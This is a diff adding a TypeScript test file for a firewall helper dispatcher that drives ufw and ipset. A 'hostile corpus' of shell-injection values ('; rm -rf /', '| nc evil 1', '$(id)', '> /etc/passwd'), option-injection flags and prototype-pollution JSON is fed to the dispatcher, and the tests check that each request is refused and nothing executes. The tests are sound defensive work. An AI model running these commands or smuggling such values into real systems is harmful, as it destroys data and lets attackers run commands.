@@ -1,0 +1,246 @@
+import { describe, expect, it } from 'vitest';
+import { createHelperDispatcher } from '../../electron/helper/ops.ts';
+import { MAX_LINE_BYTES } from '../../electron/shared/helper-protocol.ts';
+import { fakeDeps } from './fakes.ts';
+
+const META = ['; rm -rf /', '| nc evil 1', '&& reboot', '$(id)', '`id`', "' or '1", '"', '\n', '${IFS}', '> /etc/passwd'];
+const rule = (over: Record<string, unknown>) => ({ action: 'allow', port: '22', proto: 'tcp', ...over });
+
+/** Requests that must ALL be refused without running anything. */
+function hostileCorpus(): { name: string; req: unknown }[] {
+  const out: { name: string; req: unknown }[] = [];
+  const add = (name: string, req: unknown) => out.push({ name, req });
+  for (const m of META) {
+    add(`ban ip ${JSON.stringify(m)}`, { id: 1, op: 'ban', args: { ip: `1.2.3.4${m}`, timeoutSec: 60, backend: 'ufw' } });
+    add(`ban comment ${JSON.stringify(m)}`, { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 60, comment: `x${m}`, backend: 'set' } });
+    add(`unban ${JSON.stringify(m)}`, { id: 1, op: 'unban', args: { ip: m, backend: 'ufw' } });
+    add(`cut ${JSON.stringify(m)}`, { id: 1, op: 'cutConnections', args: { ip: `::1${m}` } });
+    for (const field of ['port', 'iface', 'app', 'comment', 'from', 'to']) {
+      add(`addRule ${field} ${JSON.stringify(m)}`, { id: 1, op: 'addRule', args: { rule: rule({ [field]: `a${m}` }) } });
+    }
+    add(`setLogging ${JSON.stringify(m)}`, { id: 1, op: 'setLogging', args: { level: `low${m}` } });
+    add(`setDefault ${JSON.stringify(m)}`, { id: 1, op: 'setDefault', args: { direction: 'incoming', policy: `deny${m}` } });
+    add(`backend ${JSON.stringify(m)}`, { id: 1, op: 'listBans', args: { backend: `set${m}` } });
+    add(`op ${JSON.stringify(m)}`, { id: 1, op: `status${m}`, args: {} });
+  }
+  // option injection
+  for (const opt of ['-x', '--force', '--dry-run', '-h']) {
+    add(`comment ${opt}`, { id: 1, op: 'addRule', args: { rule: rule({ comment: opt }) } });
+    add(`iface ${opt}`, { id: 1, op: 'addRule', args: { rule: rule({ iface: opt }) } });
+    add(`ban comment ${opt}`, { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 60, comment: opt, backend: 'ufw' } });
+    add(`ip ${opt}`, { id: 1, op: 'ban', args: { ip: opt, timeoutSec: 60, backend: 'ufw' } });
+    add(`level ${opt}`, { id: 1, op: 'setLogging', args: { level: opt } });
+  }
+  // ports and numbers out of range / wrong types
+  for (const port of ['0', '65536', '99999', '22:0', '1,65536', '-1', '22 ', 'ssh', '']) {
+    add(`port ${port}`, { id: 1, op: 'addRule', args: { rule: rule({ port }) } });
+  }
+  add('port as number', { id: 1, op: 'addRule', args: { rule: rule({ port: 22 }) } });
+  add('position 0', { id: 1, op: 'insertRule', args: { position: 0, rule: rule({}) } });
+  add('position float', { id: 1, op: 'insertRule', args: { position: 1.5, rule: rule({}) } });
+  add('delete negative', { id: 1, op: 'deleteRule', args: { number: -3 } });
+  add('delete string', { id: 1, op: 'deleteRule', args: { number: '3' } });
+  add('move NaN-ish', { id: 1, op: 'moveRule', args: { number: 2, to: null } });
+  add('timeout 0', { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 0, backend: 'ufw' } });
+  add('timeout huge', { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 1e12, backend: 'ufw' } });
+  add('timeout string', { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: '60', backend: 'ufw' } });
+  add('ip number', { id: 1, op: 'ban', args: { ip: 16909060, timeoutSec: 60, backend: 'ufw' } });
+  add('ip classful', { id: 1, op: 'ban', args: { ip: '1.2.3', timeoutSec: 60, backend: 'ufw' } });
+  add('ip hex', { id: 1, op: 'ban', args: { ip: '0x7f.1', timeoutSec: 60, backend: 'ufw' } });
+  add('ip cidr', { id: 1, op: 'ban', args: { ip: '10.0.0.0/8', timeoutSec: 60, backend: 'ufw' } });
+  add('backend unknown', { id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 60, backend: 'iptables' } });
+  add('action unknown', { id: 1, op: 'addRule', args: { rule: rule({ action: 'accept' }) } });
+  add('proto unknown', { id: 1, op: 'addRule', args: { rule: rule({ proto: 'icmp' }) } });
+  add('comment quote', { id: 1, op: 'addRule', args: { rule: rule({ comment: "it's" }) } });
+  add('comment newline', { id: 1, op: 'addRule', args: { rule: rule({ comment: 'a\nb' }) } });
+  add('comment too long', { id: 1, op: 'addRule', args: { rule: rule({ comment: 'a'.repeat(101) }) } });
+  add('comment reserved tag', { id: 1, op: 'addRule', args: { rule: rule({ comment: 'portcullis-ban fake' }) } });
+  add('app and port', { id: 1, op: 'addRule', args: { rule: rule({ app: 'OpenSSH' }) } });
+  add('range without proto', { id: 1, op: 'addRule', args: { rule: rule({ port: '8000:8100', proto: 'any' }) } });
+  add('mixed families', { id: 1, op: 'addRule', args: { rule: rule({ from: '10.0.0.1', to: '2001:db8::1' }) } });
+  // unknown ops, envelopes, extra fields, prototype pollution
+  for (const op of ['exec', 'shell', 'reset', 'reload', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '']) {
+    add(`op ${op}`, { id: 1, op, args: {} });
+  }
+  add('op number', { id: 1, op: 7, args: {} });
+  add('no op', { id: 1, args: {} });
+  add('id string', { id: '1', op: 'enable', args: {} });
+  add('id negative', { id: -1, op: 'enable', args: {} });
+  add('extra envelope field', { id: 1, op: 'enable', args: {}, sudo: true });
+  add('extra arg field', { id: 1, op: 'enable', args: { force: true } });
+  add('extra rule field', { id: 1, op: 'addRule', args: { rule: rule({ raw: '-j ACCEPT' }) } });
+  add('args array', { id: 1, op: 'enable', args: [] });
+  add('args string', { id: 1, op: 'setLogging', args: 'low' });
+  add('null', null);
+  add('array', [1, 2]);
+  add('number', 42);
+  for (const json of [
+    '{"id":1,"op":"enable","args":{"__proto__":{"polluted":true}}}',
+    '{"id":1,"op":"addRule","args":{"rule":{"action":"allow","__proto__":{"x":1}}}}',
+    '{"id":1,"op":"enable","args":{},"__proto__":{"op":"disable"}}',
+    '{"id":1,"op":"ban","args":{"ip":"1.2.3.4","timeoutSec":60,"backend":"ufw","constructor":{"prototype":{"x":1}}}}',
+    '{"id":1,"op":"enable"', // broken JSON
+    'enable',
+    '',
+  ]) {
+    add(`raw ${json}`, json);
+  }
+  add('oversize line', JSON.stringify({ id: 1, op: 'ban', args: { ip: '1.2.3.4', timeoutSec: 60, backend: 'ufw', comment: 'a'.repeat(MAX_LINE_BYTES) } }));
+  add('oversize multibyte line', `{"id":1,"op":"enable","args":{},"x":"${'é'.repeat(MAX_LINE_BYTES / 2 + 10)}"}`);
+  add('oversize secret', { id: 1, op: 'hello', args: { secret: 'a'.repeat(10_000) } });
+  add('oversize app', { id: 1, op: 'addRule', args: { rule: { action: 'allow', app: 'A'.repeat(200) } } });
+  add('deep nesting', { id: 1, op: 'previewRule', args: { op: { kind: 'add', rule: { action: 'allow', comment: { a: { b: { c: {} } } } } } } });
+  return out;
+}
+
+describe('helper dispatcher: hostile corpus', () => {
+  const corpus = hostileCorpus();
+  it(`has a large corpus (${corpus.length} requests)`, () => expect(corpus.length).toBeGreaterThan(150));
+
+  for (const { name, req } of corpus) {
+    it(`refuses ${name} with a typed error and runs nothing`, async () => {
+      const { deps, calls, fwCalls, audit } = fakeDeps();
+      const d = createHelperDispatcher(deps);
+      const r = await d.handle(req);
+      expect(r.ok).toBe(false);
+      if (!r.ok) expect(['invalid', 'unknown-op', 'too-large']).toContain(r.error.code);
+      expect(calls).toEqual([]);
+      expect(fwCalls).toEqual([]);
+      expect(audit.entries).toEqual([]);
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    });
+  }
+});
+
+describe('helper dispatcher: valid requests', () => {
+  it('adds a rule with a fixed argv, comment as one element, audited', async () => {
+    const { deps, calls, audit } = fakeDeps();
+    const d = createHelperDispatcher(deps);
+    const r = await d.handle({ id: 5, op: 'addRule', args: { rule: { action: 'allow', port: '443', proto: 'tcp', comment: 'web server' } } });
+    expect(r).toEqual({ id: 5, ok: true, result: { ran: ["ufw allow in proto tcp from any to any port 443 comment 'web server'"] } });
+    expect(calls).toEqual([{ bin: 'ufw', args: ['allow', 'in', 'proto', 'tcp', 'from', 'any', 'to', 'any', 'port', '443', 'comment', 'web server'] }]);
+    expect(audit.entries).toHaveLength(1);
+    expect(audit.entries[0]).toMatchObject({ who: 'test', op: 'addRule', result: 'ok', argv: [['/usr/sbin/ufw', 'allow', 'in', 'proto', 'tcp', 'from', 'any', 'to', 'any', 'port', '443', 'comment', 'web server']] });
+  });
+
+  it('status: rules parsed, ban rules apart, defaults and logging from the config files', async () => {
+    const { deps } = fakeDeps();
+    const r = await createHelperDispatcher(deps).handle({ id: 1, op: 'status', args: {} });
+    if (!r.ok) throw new Error(r.error.message);
+    const s = r.result as { enabled: boolean; logging: string; defaults: unknown; rules: unknown[]; portcullisRules: { from: string }[]; all: unknown[]; appProfiles: string[] };
+    expect(s.enabled).toBe(true);
+    expect(s.logging).toBe('medium');
+    expect(s.defaults).toEqual({ incoming: 'deny', outgoing: 'allow', routed: 'reject' });
+    expect(s.all).toHaveLength(31);
+    expect(s.portcullisRules.map((p) => p.from)).toEqual(['203.0.113.7', '2001:db8::7']);
+    expect(s.rules).toHaveLength(29);
+    expect(s.appProfiles).toContain('WWW Full');
+  });
+
+  it('ban goes to the chosen backend, canonical address, audited with the argv the backend ran', async () => {
+    const { deps, fwCalls, audit } = fakeDeps();
+    const r = await createHelperDispatcher(deps).handle({ id: 2, op: 'ban', args: { ip: '2001:DB8:0::7', timeoutSec: 600, comment: 'SYN scan 12 ports', backend: 'set' } });
+    expect(r.ok).toBe(true);
+    expect(fwCalls).toEqual(['set.ban 2001:db8::7 600 SYN scan 12 ports']);
+    expect(audit.entries[0]!.argv).toEqual([['/usr/sbin/ipset', 'add', 'x', '2001:db8::7']]);
+  });
+
+  it('deleting a Portcullis ban rule through the rule editor is refused', async () => {
+    const { deps, calls } = fakeDeps();
+    const r = await createHelperDispatcher(deps).handle({ id: 3, op: 'deleteRule', args: { number: 3 } });
+    expect(r.ok).toBe(false);
+    expect(calls.filter((c) => c.args[1] === 'delete')).toEqual([]);
+  });
+
+  it('delete finds the rule the client saw after numbers shifted (a ban was prepended meanwhile)', async () => {
+    const { deps, calls } = fakeDeps();
+    // The client saw "2222/tcp LIMIT IN" as rule 6; in the fixture it is rule 7 now.
+    const r = await createHelperDispatcher(deps).handle({ id: 3, op: 'deleteRule', args: { number: 6, expect: { port: '2222', action: 'limit', v6: false } } });
+    expect(r.ok).toBe(true);
+    expect(calls.at(-1)).toEqual({ bin: 'ufw', args: ['--force', 'delete', '7'] });
+  });
+
+  it('a rule that no longer exists as shown is a conflict, nothing deleted', async () => {
+    const { deps, calls } = fakeDeps();
+    const r = await createHelperDispatcher(deps).handle({ id: 3, op: 'deleteRule', args: { number: 6, expect: { port: '9999' } } });
+    expect(r).toMatchObject({ ok: false, error: { code: 'conflict' } });
+    expect(calls.some((c) => c.args.includes('delete'))).toBe(false);
+  });
+
+  it('move = delete + insert of the same rule; a v6 rule cannot move among v4 rules (nothing runs)', async () => {
+    const { deps, calls } = fakeDeps();
+    const d = createHelperDispatcher(deps);
+    const r = await d.handle({ id: 4, op: 'moveRule', args: { number: 7, to: 2 } });
+    expect(r.ok).toBe(true);
+    expect(calls.slice(-2).map((c) => c.args)).toEqual([
+      ['--force', 'delete', '7'],
+      ['insert', '2', 'limit', 'in', 'proto', 'tcp', 'from', 'any', 'to', 'any', 'port', '2222'],
+    ]);
+    calls.length = 0;
+    const bad = await d.handle({ id: 5, op: 'moveRule', args: { number: 21, to: 2 } });
+    expect(bad).toMatchObject({ ok: false, error: { code: 'invalid' } });
+    expect(calls.filter((c) => c.args[0] !== 'status')).toEqual([]);
+  });
+
+  it('move: when the re-insert fails, the original rule is put back', async () => {
+    const { deps, calls } = fakeDeps((bin, args) => (args[0] === 'insert' && args[1] === '2' ? { code: 1, stdout: '', stderr: 'ERROR: boom' } : undefined));
+    const r = await createHelperDispatcher(deps).handle({ id: 4, op: 'moveRule', args: { number: 7, to: 2 } });
+    expect(r).toMatchObject({ ok: false, error: { code: 'failed' } });
+    expect(calls.at(-1)!.args).toEqual(['insert', '7', 'limit', 'in', 'proto', 'tcp', 'from', 'any', 'to', 'any', 'port', '2222']);
+  });
+
+  it('ufw failures become typed errors carrying ufw’s message, and are audited', async () => {
+    const { deps, audit } = fakeDeps((bin, args) => (args[0] === 'logging' ? { code: 1, stdout: '', stderr: 'ERROR: Invalid syntax\n' } : undefined));
+    const r = await createHelperDispatcher(deps).handle({ id: 9, op: 'setLogging', args: { level: 'high' } });
+    expect(r).toEqual({ id: 9, ok: false, error: { code: 'failed', message: 'ufw logging high: ERROR: Invalid syntax' } });
+    expect(audit.entries[0]).toMatchObject({ result: 'error', op: 'setLogging' });
+  });
+
+  it('previewRule runs nothing and shows the exact commands', async () => {
+    const { deps, calls } = fakeDeps();
+    const r = await createHelperDispatcher(deps).handle({ id: 1, op: 'previewRule', args: { op: { kind: 'add', position: 1, rule: { action: 'deny', from: '2001:db8::/32' } } } });
+    expect(r).toEqual({ id: 1, ok: true, result: { commands: ['ufw prepend deny in from 2001:db8::/32 to any'] } });
+    expect(calls).toEqual([]);
+  });
+
+  it('changes never overlap: ufw runs one at a time', async () => {
+    let running = 0;
+    let maxRunning = 0;
+    const { deps } = fakeDeps();
+    const inner = deps.exec;
+    deps.exec = async (bin, args, o) => {
+      running++;
+      maxRunning = Math.max(maxRunning, running);
+      await new Promise((r) => setTimeout(r, 5));
+      running--;
+      return inner(bin, args, o);
+    };
+    const d = createHelperDispatcher(deps);
+    const results = await Promise.all([
+      d.handle({ id: 1, op: 'enable', args: {} }),
+      d.handle({ id: 2, op: 'addRule', args: { rule: { action: 'allow', port: '80', proto: 'tcp' } } }),
+      d.handle({ id: 3, op: 'status', args: {} }),
+      d.handle({ id: 4, op: 'setDefault', args: { direction: 'incoming', policy: 'deny' } }),
+    ]);
+    expect(results.every((r) => r.ok)).toBe(true);
+    expect(maxRunning).toBe(1);
+  });
+
+  it('streams kmsg records as events and stops on close', async () => {
+    const { deps } = fakeDeps();
+    let emit: ((r: string[]) => void) | null = null;
+    let stopped = false;
+    deps.openKmsg = (_start, onRecords) => {
+      emit = onRecords;
+      return { stop: () => void (stopped = true) };
+    };
+    const d = createHelperDispatcher(deps);
+    const events: unknown[] = [];
+    d.onEvent((e) => events.push(e));
+    expect(await d.handle({ id: 1, op: 'streamKmsg', args: { afterSeq: 10 } })).toMatchObject({ ok: true });
+    emit!(['4,11,5,-;[UFW BLOCK] IN=eth0']);
+    expect(events).toEqual([{ event: 'kmsg', records: ['4,11,5,-;[UFW BLOCK] IN=eth0'] }]);
+    d.close();
+    expect(stopped).toBe(true);
+  });
+});
